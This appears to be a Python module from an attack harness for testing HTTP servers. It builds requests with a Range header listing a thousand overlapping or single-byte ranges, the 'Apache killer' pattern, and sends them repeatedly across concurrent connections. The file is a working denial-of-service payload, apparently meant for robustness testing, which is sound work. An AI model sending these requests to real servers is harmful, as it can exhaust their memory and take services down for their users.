"""Ranges of a file, as many and as overlapping as a field may name."""

from __future__ import annotations

from attack.hostile import Hostile

AT_A_TIME = 8
PATH = b"/files/large"


async def bombs(hostile: Hostile) -> None:
    """A thousand overlapping ranges of 1 MiB in one request (Apache killer)."""
    ranges = b",".join(b"%d-" % n for n in range(1000))
    await _ask(hostile, ranges)


async def single_bytes(hostile: Hostile) -> None:
    """A thousand ranges of one byte each: a part with a head for every byte."""
    ranges = b",".join(b"%d-%d" % (2 * n, 2 * n) for n in range(1000))
    await _ask(hostile, ranges)


async def _ask(hostile: Hostile, ranges: bytes) -> None:
    data = b"GET %s HTTP/1.1\r\nHost: a\r\nConnection: close\r\nRange: bytes=%s\r\n\r\n" % (
        PATH,
        ranges,
    )

    async def once() -> None:
        await hostile.client().talk(data)

    await hostile.again_and_again(AT_A_TIME, once)
